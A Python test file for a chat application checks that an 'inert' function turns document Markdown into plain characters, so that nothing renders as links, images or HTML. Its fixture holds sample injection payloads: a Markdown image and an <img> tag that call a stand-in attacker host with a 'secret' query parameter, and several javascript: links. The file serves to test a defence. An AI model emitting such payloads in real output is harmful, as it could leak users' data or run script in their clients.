"""Document text in the chat is inert Markdown: checked with a CommonMark parser (markdown-it-py, as rich uses)."""

from markdown_it import MarkdownIt

from app.markdown import inert

HOSTILE = (
    "Voir ![x](http://attacker.invalid/leak.png?q=secret) et [clic](javascript:alert(1)), "
    "<img src=http://attacker.invalid/a.png> <javascript:alert(2)> :red[rouge] $x^2$ `code` **gras** [r][1]\n\n"
    "[1]: javascript:alert(3)\n# titre"
)


def rendered(markdown: str) -> list:
    return [t for block in MarkdownIt("commonmark").parse(markdown) for t in [block, *(block.children or [])]]


def test_document_markdown_is_shown_as_its_characters():
    tokens = rendered(inert(HOSTILE))
    kinds = {t.type for t in tokens}
    assert not kinds & {"image", "link_open", "html_inline", "html_block", "code_inline", "strong_open", "heading_open"}
    text = "".join(t.content for t in tokens if t.type == "text")
    assert "![x](http://attacker.invalid/leak.png?q=secret)" in text and "[clic](javascript:alert(1))" in text


def test_plain_text_is_unchanged():
    assert inert("Environ 5 000 emplois d’ici 2025, soit 9,7 M€.") == "Environ 5 000 emplois d’ici 2025, soit 9,7 M€."
